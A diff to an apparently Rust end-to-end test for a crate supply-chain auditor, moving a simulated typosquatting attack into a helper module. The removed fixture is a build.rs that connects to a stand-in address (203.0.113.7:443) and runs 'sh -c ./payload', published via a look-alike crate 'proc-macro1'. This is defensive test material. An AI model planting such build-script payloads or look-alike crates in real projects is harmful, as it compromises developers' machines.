@@ -11,17 +11,9 @@ use audit_trust_e2e::{CrateSpec, LocalRegistry, Workspace};
 use serde_json::Value;
 
 const TODAY: &str = "2026-08-20T12:00:00Z";
-const OLD: &str = "2024-09-14T12:24:40Z";
+const OLD: &str = audit_trust_e2e::hijack::OLD_PUBTIME;
 const KEY: &str = "ed25519:AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=";
 const LIB: &str = "pub fn get(a: &[u8]) -> u8 {\n    a[0]\n}\n";
-
-/// The payload: real calls, and the same calls in a comment and a string (which must raise
-/// nothing of their own).
-const BUILD_RS: &str = "use std::net::TcpStream;\nuse std::process::Command;\n\n\
-// Command::new(\"curl\") in a comment is not a call.\n\
-fn main() {\n    let _note = \"Command::new(\\\"sh\\\")\";\n    \
-let _c = TcpStream::connect(\"203.0.113.7:443\");\n    \
-Command::new(\"sh\").arg(\"-c\").arg(\"./payload\").status().ok();\n}\n";
 
 struct World {
     reg: LocalRegistry,
@@ -54,17 +46,7 @@ fn world() -> World {
     );
     ws.generate_lockfile(&reg);
     // The attack: a download crate, the look-alike that build-depends on it, the release.
-    publish(
-        CrateSpec::new("downloader", "0.2.7").file("src/lib.rs", "pub fn get(_: &str) {}\n"),
-        OLD,
-    );
-    publish(
-        CrateSpec::new("proc-macro1", "0.1.0")
-            .build_dep("downloader", "0.2")
-            .file("build.rs", BUILD_RS)
-            .file("src/lib.rs", ""),
-        "2026-08-20T11:20:00Z",
-    );
+    audit_trust_e2e::hijack::publish_look_alike(&reg, "2026-08-20T11:20:00Z");
     publish(
         CrateSpec::new("arrayref", "0.3.10")
             .dep("proc-macro1", "0.1")
